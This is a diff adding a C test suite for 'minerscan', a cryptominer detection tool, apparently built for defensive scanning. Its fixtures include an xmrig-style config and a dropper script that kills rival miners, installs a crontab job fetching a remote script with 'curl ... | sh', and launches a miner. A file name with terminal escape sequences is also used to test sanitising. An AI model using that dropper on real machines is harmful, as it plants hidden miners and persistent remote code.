@@ -1,3 +1,396 @@
+/*
+ * test_cli.c - the minerscan command as a user runs it: a compiled miner
+ * fixture, an xmrig-style config, a dropper script, exit codes, JSON Lines
+ * fields, --sort determinism across thread counts, odd file names, options.
+ */
 #include <criterion/criterion.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
 #include "util.h"
-Test(cli, placeholder) { cr_assert(1); }
+
+static char *tmp;
+
+static void setup(void) {
+    tmp = t_mkdtemp();
+    cr_assert_not_null(tmp);
+}
+
+static void teardown(void) {
+    t_rmtree(tmp);
+    free(tmp);
+}
+
+TestSuite(cli, .init = setup, .fini = teardown, .timeout = 120);
+
+/* A small program holding the strings of an xmrig build. It is compiled,
+ * never run. */
+static const char miner_c[] =
+    "#include <stdio.h>\n"
+    "static const char *s[] = {\"XMRig/6.21.0\", \"donate-level\", \"randomx\",\n"
+    "  \"use pool\", \"new job from\", \"stratum+tcp://pool.example.com:3333\",\n"
+    "  \"mining.subscribe\", \"mining.submit\", 0};\n"
+    "int main(int c, char **v) { for (int i = 0; s[i]; i++) if (c > 5) puts(s[i]);\n"
+    "  return v[0][0] == 0; }\n";
+
+static const char config_json[] =
+    "{\n  \"autosave\": true,\n  \"donate-level\": 0,\n  \"cpu\": {\"huge-pages\": true},\n"
+    "  \"randomx\": {\"1gb-pages\": true},\n"
+    "  \"pools\": [{\"url\": \"stratum+tcp://pool.example.com:3333\", \"user\": \"worker1\",\n"
+    "             \"pass\": \"x\", \"algo\": \"rx/0\", \"tls\": false}]\n}\n";
+
+static const char dropper_sh[] =
+    "#!/bin/sh\n"
+    "pkill -f xmrig; pkill -f kdevtmpfsi\n"
+    "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh') | crontab -\n"
+    "./.x -o stratum+tcp://pool.example.com:3333 -u worker1 -p x --donate-level=0\n";
+
+static char *make_miner(const char *dir, const char *name) {
+    char *p = t_path(dir, name);
+    cr_assert_eq(t_compile("cc", miner_c, p, NULL), 0, "compile the miner fixture");
+    return p;
+}
+
+static json_t *run_jsonl(t_result *res, ...) {
+    const char *argv[64];
+    size_t n = 0;
+    argv[n++] = t_minerscan_path();
+    argv[n++] = "-f";
+    argv[n++] = "jsonl";
+    argv[n++] = "--no-progress";
+    va_list ap;
+    va_start(ap, res);
+    const char *a;
+    while ((a = va_arg(ap, const char *)) && n < 63)
+        argv[n++] = a;
+    va_end(ap);
+    argv[n] = NULL;
+    cr_assert_eq(t_run(argv, NULL, 120, res), 0);
+    json_t *recs = t_jsonl(res->out);
+    cr_assert_not_null(recs, "output is JSON Lines:\n%s", res->out);
+    return recs;
+}
+
+Test(cli, compiled_miner_is_malicious_exit_1_with_jsonl_fields) {
+    char *m = make_miner(tmp, "kworker");
+    t_result res;
+    json_t *recs = run_jsonl(&res, m, NULL);
+    cr_assert_eq(res.status, 1, "exit 1 when something is found; stderr: %s", res.err);
+    json_t *r = t_find_record(recs, m);
+    cr_assert_not_null(r, "a record for %s in:\n%s", m, res.out);
+    cr_assert_str_eq(json_string_value(json_object_get(r, "verdict")), "malicious");
+    cr_assert(t_has_rule(r, "xmrig_strings"));
+    cr_assert_str_eq(json_string_value(json_object_get(json_object_get(r, "filetype"), "class")), "elf");
+    const char *sha = json_string_value(json_object_get(r, "sha256"));
+    cr_assert(sha && strlen(sha) == 64, "sha256 of a hit");
+    struct stat st;
+    stat(m, &st);
+    cr_assert_eq(json_integer_value(json_object_get(r, "size")), st.st_size);
+    json_t *hit = json_array_get(json_object_get(r, "rules"), 0);
+    cr_assert_not_null(json_object_get(hit, "family"));
+    cr_assert_not_null(json_object_get(hit, "severity"));
+    json_t *sum = t_summary(recs);
+    cr_assert_not_null(sum, "a final summary record");
+    cr_assert_eq(json_integer_value(json_object_get(sum, "malicious")), 1);
+    cr_assert_eq(json_integer_value(json_object_get(sum, "files")), 1);
+    json_decref(recs);
+    t_result_free(&res);
+    free(m);
+}
+
+Test(cli, config_and_dropper_are_flagged) {
+    char *c = t_write_str(tmp, "config.json", config_json);
+    char *d = t_write_str(tmp, "x.sh", dropper_sh);
+    t_result res;
+    json_t *recs = run_jsonl(&res, tmp, NULL);
+    cr_assert_eq(res.status, 1, "%s", res.err);
+    json_t *rc = t_find_record(recs, c);
+    json_t *rd = t_find_record(recs, d);
+    cr_assert_not_null(rc, "config flagged:\n%s", res.out);
+    cr_assert_not_null(rd, "dropper flagged:\n%s", res.out);
+    const char *vc = json_string_value(json_object_get(rc, "verdict"));
+    cr_assert(!strcmp(vc, "malicious") || !strcmp(vc, "suspicious"), "%s", vc);
+    json_decref(recs);
+    t_result_free(&res);
+    free(c), free(d);
+}
+
+Test(cli, clean_tree_exits_0_and_reports_nothing) {
+    char *a = t_write_str(tmp, "a.txt", "hello\n");
+    char *b = t_path(tmp, "true");
+    cr_assert_eq(t_compile("cc", "int main(void){return 0;}", b, NULL), 0);
+    t_result res;
+    json_t *recs = run_jsonl(&res, tmp, NULL);
+    cr_assert_eq(res.status, 0, "stdout %s stderr %s", res.out, res.err);
+    cr_assert_eq(json_array_size(recs), 1, "only the summary without --all:\n%s", res.out);
+    json_t *sum = t_summary(recs);
+    cr_assert_eq(json_integer_value(json_object_get(sum, "files")), 2);
+    cr_assert_eq(json_integer_value(json_object_get(sum, "objects")), 2);
+    json_decref(recs);
+    t_result_free(&res);
+
+    /* --all reports the clean objects too */
+    recs = run_jsonl(&res, "--all", tmp, NULL);
+    cr_assert_eq(res.status, 0);
+    json_t *ra = t_find_record(recs, a);
+    cr_assert_not_null(ra);
+    cr_assert_str_eq(json_string_value(json_object_get(ra, "verdict")), "clean");
+    cr_assert_not_null(t_find_record(recs, b));
+    json_decref(recs);
+    t_result_free(&res);
+    free(a), free(b);
+}
+
+Test(cli, nonexistent_path_exits_2_and_names_it) {
+    char *missing = t_path(tmp, "no-such-file");
+    t_result res;
+    cr_assert_eq(t_minerscan(&res, NULL, "--no-progress", missing, NULL), 0);
+    cr_assert_eq(res.status, 2);
+    cr_assert(strstr(res.out, missing) || strstr(res.err, missing), "names the path: %s %s", res.out, res.err);
+    cr_assert(strstr(res.out, "No such file") || strstr(res.err, "No such file"));
+    t_result_free(&res);
+
+    /* found beats unscanned: exit 1 */
+    char *m = make_miner(tmp, "m");
+    cr_assert_eq(t_minerscan(&res, NULL, "--no-progress", missing, m, NULL), 0);
+    cr_assert_eq(res.status, 1);
+    t_result_free(&res);
+    free(missing), free(m);
+}
+
+Test(cli, sort_output_is_identical_for_1_and_4_threads) {
+    for (int i = 0; i < 40; i++) {
+        char name[64], body[128];
+        snprintf(name, sizeof(name), "d%d/f%02d.txt", i % 5, i);
+        snprintf(body, sizeof(body), i % 3 ? "plain %d\n" : "mining.subscribe mining.notify %d\n", i);
+        free(t_write_str(tmp, name, body));
+    }
+    free(make_miner(tmp, "d1/miner"));
+    t_result a, b;
+    const char *argv1[] = {t_minerscan_path(), "-f", "jsonl", "--sort", "--all", "-j1", tmp, NULL};
+    const char *argv4[] = {t_minerscan_path(), "-f", "jsonl", "--sort", "--all", "-j4", tmp, NULL};
+    cr_assert_eq(t_run(argv1, NULL, 120, &a), 0);
+    cr_assert_eq(t_run(argv4, NULL, 120, &b), 0);
+    cr_assert_eq(a.status, 1);
+    cr_assert_gt(a.out_len, 1000u);
+    cr_assert_eq(a.out_len, b.out_len);
+    cr_assert_eq(memcmp(a.out, b.out, a.out_len), 0, "byte-identical");
+    /* and sorted by path */
+    json_t *recs = t_jsonl(a.out);
+    const char *prev = "";
+    size_t i;
+    json_t *r;
+    json_array_foreach(recs, i, r) {
+        const char *p = json_string_value(json_object_get(r, "path"));
+        if (!p)
+            continue;
+        cr_assert_leq(strcmp(prev, p), 0, "%s before %s", prev, p);
+        prev = p;
+    }
+    json_decref(recs);
+    t_result_free(&a);
+    t_result_free(&b);
+
+    /* text and sarif are deterministic too */
+    for (int k = 0; k < 2; k++) {
+        const char *fmt = k ? "sarif" : "text";
+        const char *x1[] = {t_minerscan_path(), "-f", fmt, "--sort", "-j1", tmp, NULL};
+        const char *x4[] = {t_minerscan_path(), "-f", fmt, "--sort", "-j4", tmp, NULL};
+        cr_assert_eq(t_run(x1, NULL, 120, &a), 0);
+        cr_assert_eq(t_run(x4, NULL, 120, &b), 0);
+        cr_assert_str_eq(a.out, b.out, "%s output differs between -j1 and -j4", fmt);
+        t_result_free(&a);
+        t_result_free(&b);
+    }
+}
+
+Test(cli, odd_file_names_are_sanitised_in_text_and_exact_in_jsonl) {
+    const char *name = "evil\nname\x1b[31mred";
+    char *p = t_path(tmp, name);
+    cr_assert_eq(t_compile("cc", miner_c, p, NULL), 0);
+    t_result res;
+    cr_assert_eq(t_minerscan(&res, NULL, "--no-progress", "-f", "text", tmp, NULL), 0);
+    cr_assert_eq(res.status, 1);
+    cr_assert_null(memchr(res.out, 0x1b, res.out_len), "no ESC reaches the terminal");
+    cr_assert_not_null(strstr(res.out, "evil\\x0aname\\x1b[31mred"), "escaped form shown:\n%s", res.out);
+    t_result_free(&res);
+
+    json_t *recs = run_jsonl(&res, tmp, NULL);
+    cr_assert_not_null(t_find_record(recs, p), "exact path in JSONL:\n%s", res.out);
+    json_decref(recs);
+    t_result_free(&res);
+
+    /* a name that is not UTF-8 gets path_b64 with the exact bytes */
+    char *q = t_path(tmp, "bad\xff\xfe.bin");
+    cr_assert_eq(t_compile("cc", miner_c, q, NULL), 0);
+    recs = run_jsonl(&res, q, NULL);
+    json_t *r = json_array_get(recs, 0);
+    cr_assert_not_null(json_object_get(r, "path_b64"), "%s", res.out);
+    json_decref(recs);
+    t_result_free(&res);
+    free(p), free(q);
+}
+
+Test(cli, paths_from_stdin_and_output_file) {
+    char *m = make_miner(tmp, "m1");
+    char *c = t_write_str(tmp, "clean.txt", "hello\n");
+    char *out = t_path(tmp, "report.jsonl");
+    char input[4200];
+    snprintf(input, sizeof(input), "%s\n%s\n", m, c);
+    t_result res;
+    cr_assert_eq(t_minerscan(&res, input, "--no-progress", "-f", "jsonl", "-o", out, "-", NULL), 0);
+    cr_assert_eq(res.status, 1);
+    cr_assert_eq(res.out_len, 0, "nothing on stdout with -o");
+    char *text = t_read(out, NULL);
+    json_t *recs = t_jsonl(text);
+    cr_assert_not_null(t_find_record(recs, m));
+    cr_assert_eq(json_integer_value(json_object_get(t_summary(recs), "files")), 2);
+    json_decref(recs);
+    free(text);
+    t_result_free(&res);
+    free(m), free(c), free(out);
+}
+
+Test(cli, user_rules_and_rule_errors) {
+    char *rule = t_write_str(tmp, "rules/r.yar",
+                             "rule marker_rule { meta: family = \"t\" category = \"dropper\" severity = \"high\" "
+                             "description = \"d\" strings: $a = \"QQ-MARK-QQ\" condition: $a }\n");
+    char *f = t_write_str(tmp, "data/f.txt", "xx QQ-MARK-QQ xx\n");
+    char *rdir = t_path(tmp, "rules");
+    char *ddir = t_path(tmp, "data");
+    t_result res;
+    json_t *recs = run_jsonl(&res, "--rules", rdir, "--no-builtin-rules", ddir, NULL);
+    cr_assert_eq(res.status, 1, "%s", res.err);
+    cr_assert(t_has_rule(t_find_record(recs, f), "marker_rule"));
+    json_decref(recs);
+    t_result_free(&res);
+
+    char *bad = t_write_str(tmp, "bad.yar", "rule x {\n condition: nosuchthing\n}\n");
+    cr_assert_eq(t_minerscan(&res, NULL, "--rules", bad, ddir, NULL), 0);
+    cr_assert_eq(res.status, 2);
+    char want[4200];
+    snprintf(want, sizeof(want), "%s:2:", bad);
+    cr_assert_not_null(strstr(res.err, want), "file:line message, got: %s", res.err);
+    t_result_free(&res);
+
+    cr_assert_eq(t_minerscan(&res, NULL, "--list-rules", NULL), 0);
+    cr_assert_eq(res.status, 0);
+    cr_assert_not_null(strstr(res.out, "xmrig_strings"));
+    cr_assert_not_null(strstr(res.out, "severity=high"));
+    t_result_free(&res);
+    free(rule), free(f), free(rdir), free(ddir), free(bad);
+}
+
+Test(cli, hash_lists_from_the_command_line) {
+    const char body[] = "nothing suspicious in here at all\n";
+    char *f = t_write_str(tmp, "f.bin", body);
+    const char *argv[] = {"sha256sum", f, NULL};
+    t_result h;
+    cr_assert_eq(t_run(argv, NULL, 30, &h), 0);
+    char line[128];
+    snprintf(line, sizeof(line), "%.64s known-bad-sample\n", h.out);
+    t_result_free(&h);
+    char *list = t_write_str(tmp, "bad.list", line);
+    t_result res;
+    json_t *recs = run_jsonl(&res, "--hashes", list, f, NULL);
+    cr_assert_eq(res.status, 1);
+    json_t *r = t_find_record(recs, f);
+    cr_assert_str_eq(json_string_value(json_object_get(r, "verdict")), "malicious");
+    cr_assert_str_eq(json_string_value(json_object_get(r, "hash_list")), "known-bad-sample");
+    json_decref(recs);
+    t_result_free(&res);
+
+    char *m = make_miner(tmp, "allowed-miner");
+    const char *argv2[] = {"sha256sum", m, NULL};
+    cr_assert_eq(t_run(argv2, NULL, 30, &h), 0);
+    snprintf(line, sizeof(line), "%.64s\n", h.out);
+    t_result_free(&h);
+    char *allow = t_write_str(tmp, "allow.list", line);
+    recs = run_jsonl(&res, "--allow", allow, m, NULL);
+    cr_assert_eq(res.status, 0, "allowed: nothing found");
+    r = t_find_record(recs, m);
+    cr_assert_not_null(r, "an allowed hit is still reported, as allowed");
+    cr_assert_str_eq(json_string_value(json_object_get(r, "verdict")), "clean");
+    cr_assert_str_eq(json_string_value(json_object_get(r, "allowed_by")), "allow.list");
+    json_decref(recs);
+    t_result_free(&res);
+    free(f), free(list), free(m), free(allow);
+}
+
+Test(cli, usage_errors_are_one_line_and_exit_2) {
+    const char *bad[][3] = {
+        {"--threads", "zero", NULL}, {"--format", "xml", NULL},   {"--no-such-option", NULL, NULL},
+        {"--threshold", "2", NULL},  {"--max-filesize", "1Q", NULL},
+    };
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+        t_result res;
+        const char *argv[] = {t_minerscan_path(), bad[i][0], bad[i][1], NULL};
+        cr_assert_eq(t_run(argv, NULL, 30, &res), 0);
+        cr_assert_eq(res.status, 2, "%s", bad[i][0]);
+        char *nl = strchr(res.err, '\n');
+        cr_assert(nl && nl[1] == '\0', "exactly one line: %s", res.err);
+        cr_assert_eq(strncmp(res.err, "minerscan: ", 11), 0);
+        t_result_free(&res);
+    }
+}
+
+Test(cli, help_and_man_page_list_every_option) {
+    t_result res;
+    cr_assert_eq(t_minerscan(&res, NULL, "--help", NULL), 0);
+    cr_assert_eq(res.status, 0);
+    const char *opts[] = {"--format", "--output", "--threads", "--all", "--rules", "--no-builtin-rules",
+                          "--threshold", "--explain", "--max-depth", "--max-filesize",
+                          "--max-archive-bytes", "--max-entries", "--max-ratio", "--exclude",
+                          "--one-file-system", "--follow-symlinks", "--hashes", "--allow",
+                          "--progress", "--no-progress", "--sort", "--list-rules", "--version",
+                          "--password", NULL};
+    char *man = NULL;
+    const char *build = getenv("MS_BUILD_ROOT");
+    if (build) {
+        char *p = t_path(build, "scanner/minerscan.1");
+        man = t_read(p, NULL);
+        free(p);
+    }
+    cr_assert_not_null(man, "the man page is built");
+    for (const char **o = opts; *o; o++) {
+        cr_assert_not_null(strstr(res.out, *o), "--help lists %s", *o);
+        /* roff escapes every '-' as \- */
+        char esc[128];
+        size_t k = 0;
+        for (const char *c = *o; *c && k < sizeof(esc) - 3; c++) {
+            if (*c == '-')
+                esc[k++] = '\\';
+            esc[k++] = *c;
+        }
+        esc[k] = '\0';
+        cr_assert_not_null(strstr(man, esc), "man page lists %s (%s)", *o, esc);
+    }
+    free(man);
+    t_result_free(&res);
+
+    cr_assert_eq(t_minerscan(&res, NULL, "--version", NULL), 0);
+    cr_assert_eq(res.status, 0);
+    cr_assert_not_null(strstr(res.out, "minerscan "));
+    cr_assert_not_null(strstr(res.out, "model "));
+    cr_assert_not_null(strstr(res.out, "feature schema "));
+    t_result_free(&res);
+}
+
+Test(cli, fifo_in_tree_does_not_hang) {
+    char *fifo = t_path(tmp, "pipe");
+    cr_assert_eq(mkfifo(fifo, 0600), 0);
+    free(make_miner(tmp, "m"));
+    t_result res;
+    json_t *recs = run_jsonl(&res, tmp, NULL);
+    cr_assert_neq(res.status, 137, "killed by the timeout: the scan hung on the FIFO");
+    cr_assert_eq(res.status, 1);
+    json_t *r = t_find_record(recs, fifo);
+    cr_assert_not_null(r, "the FIFO is listed:\n%s", res.out);
+    cr_assert_str_eq(json_string_value(json_object_get(r, "verdict")), "skipped");
+    json_decref(recs);
+    t_result_free(&res);
+    free(fifo);
+}
